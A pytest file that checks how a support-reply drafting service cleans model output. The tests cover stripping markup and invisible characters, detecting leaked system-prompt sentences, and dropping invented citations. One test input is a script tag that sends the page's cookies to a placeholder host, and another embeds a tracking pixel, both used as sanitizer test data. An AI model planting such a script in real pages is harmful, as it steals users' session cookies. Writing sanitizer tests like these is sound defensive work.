"""What a drafted reply loses before it is stored or shown, and what it keeps."""

import pytest

from server.agents.llm.drafting import BUILTIN_PROMPT, DraftReply
from server.agents.llm.structured import InvalidOutputError
from server.services.assistant.cleaning import clean_text, repeats_instructions
from server.services.assistant.composer import cleaned


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Hello <b>there</b>", "Hello there"),
        ("Hi<script>fetch('//x?'+document.cookie)</script>!", "Hi!"),
        ('See <img src="//tracker/pixel.gif"> this', "See  this"),
        ("a\x00b\x07c\u202ed\u200be", "abcde"),
        ("one\r\ntwo\r\n\r\n\r\n\r\nthree", "one\ntwo\n\nthree"),
        ("Refunds take 3 < 5 days & cost nothing", "Refunds take 3 < 5 days & cost nothing"),
        ("  keep\ttabs  ", "keep\ttabs"),
    ],
)
def test_markup_and_invisible_characters_go_plain_text_stays(raw: str, clean: str) -> None:
    assert clean_text(raw) == clean


def test_a_quoted_sentence_of_the_instructions_is_a_leak_a_shared_word_is_not() -> None:
    prompt = BUILTIN_PROMPT.system_prompt
    sentence = prompt.split(". ")[1]
    assert repeats_instructions(f"Sure: {sentence.upper()}.", prompt)
    assert repeats_instructions("x " + "  ".join(sentence.split()), prompt)
    assert not repeats_instructions("We draft replies for you within a day.", prompt)


def test_citations_keep_only_found_articles_once_and_an_empty_reply_is_refused() -> None:
    reply = DraftReply(
        reply="Read this.",
        category="shipping",
        cited_articles=["found", "invented", "found"],
        confidence_note="Sure.",
    )
    composed = cleaned(reply, {"found": "Found it"}, "Be brief.")
    assert composed.reply.cited_articles == ["found"]
    assert composed.cited == [{"slug": "found", "title": "Found it"}]
    empty = reply.model_copy(update={"reply": "<p></p>"})
    with pytest.raises(InvalidOutputError):
        cleaned(empty, {}, "Be brief.")
